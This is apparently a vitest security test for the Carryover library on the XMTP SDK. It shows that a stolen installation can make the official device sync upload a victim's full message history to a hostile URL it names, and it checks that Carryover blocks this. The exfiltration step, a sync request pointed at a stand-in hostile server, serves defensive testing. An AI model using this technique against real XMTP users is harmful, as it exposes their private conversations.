import { existsSync } from "node:fs";
import { join } from "node:path";
import { newInstallation, waitFor } from "@carryover/testkit";
import {
  backupMessageCodec,
  carryoverClientOptions,
  createCarryover,
} from "@carryover/xmtp-node";
import type { BackupElementSelectionOption, WorkerKind } from "@xmtp/node-sdk";
import { afterAll, beforeAll, expect, test } from "vitest";
import { refusalOf } from "./support/evidence.js";
import { createStage, type Stage } from "./support/stage.js";

let stage: Stage;
beforeAll(async () => {
  stage = await createStage();
});
afterAll(() => stage.close());

/** What an app gets that says nothing about device sync. */
const officialOptions = {
  disableDeviceSync: false,
  codecs: [backupMessageCodec],
};

const everything = {
  elements: ["Messages", "Consent"] as BackupElementSelectionOption[],
  excludeDisappearingMessages: false,
};

/** An installation with a history, and a stolen one of the same inbox that asks for it as the official SDK does. */
async function createVictim(
  clientOptions:
    typeof officialOptions | ReturnType<typeof carryoverClientOptions>,
) {
  const person = stage.person();
  const victim = await newInstallation(person, { clientOptions });
  const group = await victim.conversations.createGroup([stage.bo.inboxId]);
  await group.sendText("what nobody else may read");
  const thief = await newInstallation(person, {
    clientOptions: officialOptions,
  });
  return {
    victim,
    /** Asks for an upload below a path, and lets the victim's app do no more than to fetch its messages. */
    askOnce: async (path: string) => {
      await thief.sendSyncRequest(everything, stage.hostile.url + path);
      await victim.conversations.syncAll();
    },
  };
}

const uploadsBelow = (path: string) =>
  stage.hostile.requests.filter((request) =>
    request.path.startsWith(`${path}/`),
  );

// This is what Carryover's check protects from: without it no approval would mean anything.
test("the official device sync gives the whole history to any own installation that asks, at any address that it names, and asks nobody", async () => {
  const silent = await createVictim(carryoverClientOptions());
  const open = await createVictim(officialOptions);
  await waitFor(
    "the history to be uploaded, unasked",
    async () => {
      await silent.askOnce("/silent");
      await open.askOnce("/open");
      return uploadsBelow("/open").some(({ bodyBytes }) => bodyBytes > 500);
    },
    { everyMs: 200 },
  );
  expect(uploadsBelow("/open")[0]?.method).toBe("POST");
  // The same requests, to a client with the options that Carryover asks for.
  expect(uploadsBelow("/silent")).toEqual([]);
});

test.each([
  ["by default", {}],
  [
    "with the device-sync worker off, which is not the one that answers",
    { workerConfig: { disabledWorkers: ["DeviceSync" as WorkerKind] } },
  ],
])(
  "Carryover does not start where the official device sync could answer: %s",
  async (_name, options) => {
    const client = await newInstallation(stage.person(), {
      clientOptions: { ...officialOptions, ...options },
    });
    const directory = join(
      await stage.network.temporaryDirectory(),
      "carryover",
    );
    const start = (override: { unsafelyKeepOfficialDeviceSync?: true } = {}) =>
      createCarryover(client, {
        encryptionKey: new Uint8Array(32).fill(1),
        directory,
        ...override,
      });
    const error = await refusalOf(start());
    expect(error.code).toBe("deviceSyncAnswers");
    expect(error.retryable).toBe(false);
    expect(error.message).toContain("without a person's yes");
    expect(error.advice).toContain("disableDeviceSync: true");
    expect(existsSync(directory)).toBe(false);
    await (await start({ unsafelyKeepOfficialDeviceSync: true })).close();
  },
);
